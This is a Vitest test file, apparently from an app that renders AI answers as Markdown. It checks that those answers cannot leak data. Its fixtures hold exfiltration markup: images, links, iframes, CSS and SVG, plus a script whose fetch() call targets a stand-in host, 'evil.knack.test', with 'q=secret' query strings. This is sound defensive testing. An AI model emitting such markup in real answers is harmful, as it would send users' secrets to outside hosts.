import { readFileSync } from "node:fs";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { BrowserSession } from "#core/ports/index.ts";
import { Markdown } from "#renderer/components/markdown.tsx";
import { grant, html, never, openStage, type Stage } from "../browser/stage.ts";

const host = "ui.knack.test";
const evil = "evil.knack.test";
const at = (path: string): string => `https://${host}${path}`;

const answer = [
  `![x](https://${evil}/image?q=secret)`,
  `[click](https://${evil}/link?q=secret)`,
  `<img src="https://${evil}/html?q=secret"><iframe src="https://${evil}/frame"></iframe><link rel="prefetch" href="https://${evil}/prefetch">`,
  `<style>@import "https://${evil}/style"; p { background: url(https://${evil}/ground) }</style><svg><image href="https://${evil}/svg"/></svg>`,
  `<video src="https://${evil}/video" poster="https://${evil}/poster"></video><object data="https://${evil}/object"></object>`,
  `https://${evil}/bare?q=secret and ![ref][1]\n\n[1]: https://${evil}/ref`,
  "Seen.",
].join("\n\n");

/** What the page of the app says it may load. */
const policy = /content="(default-src[^"]*)"/u.exec(readFileSync(new URL("../../src-renderer/index.html", import.meta.url), "utf8"))?.[1] ?? "";
const drawn = renderToStaticMarkup(createElement(Markdown, { text: answer }));
/** As if nothing in between had taken the answer's own markup out. */
const raw = `<img src="https://${evil}/raw"><iframe src="https://${evil}/raw-frame"></iframe><style>p{background:url(https://${evil}/raw-ground)}</style><p>Raw</p><script>fetch("https://${evil}/raw-fetch")</script>`;

const under = (body: string, csp: string | null) => () =>
  new Response(html(body), { headers: { "content-type": "text/html; charset=utf-8", ...(csp === null ? {} : { "content-security-policy": csp }) } });

let stage: Stage;
let session: BrowserSession;
beforeAll(async () => {
  const pages = { "/drawn": under(drawn, null), "/raw": under(raw, policy), "/open": under(raw, null) };
  stage = await openStage({ [host]: pages, [evil]: Object.fromEntries(["/raw", "/raw-frame", "/raw-ground", "/raw-fetch"].map((path) => [path, "x"])) });
  session = await stage.launch({ destinations: [grant(host), grant(evil)] });
});
afterAll(() => stage.close());

async function askedBy(path: string): Promise<readonly string[]> {
  const before = stage.asked(evil).length;
  await session.open(at(path), never);
  await session.wait(700, never);
  return stage.asked(evil).slice(before);
}

describe("INJ-06: an answer as the app shows it", () => {
  it("loads nothing from anywhere, though the site is granted and no policy stands in the way", async () => {
    expect(await askedBy("/drawn")).toEqual([]);
    expect(drawn).toContain("Seen.");
    expect(drawn).not.toMatch(/<(?:img|iframe|link|style|svg|video|object|a)\b/u);
  });

  it("its links lead nowhere by themselves: a press opens nothing", async () => {
    await session.open(at("/drawn"), never);
    const { page } = await session.click({ role: "button", name: `Link: https://${evil}/link?q=secret` }, never);
    expect([page.url, stage.asked(evil).filter((line) => line.includes("/link"))]).toEqual([at("/drawn"), []]);
  });

  it("the page's own policy is the second wall: markup that got through loads nothing either; without it all of it loads", async () => {
    expect(policy).toContain("img-src 'self' data:");
    expect(await askedBy("/raw")).toEqual([]);
    expect((await askedBy("/open")).toSorted()).toEqual(["GET /raw", "GET /raw-fetch", "GET /raw-frame", "GET /raw-ground"]);
  });
});
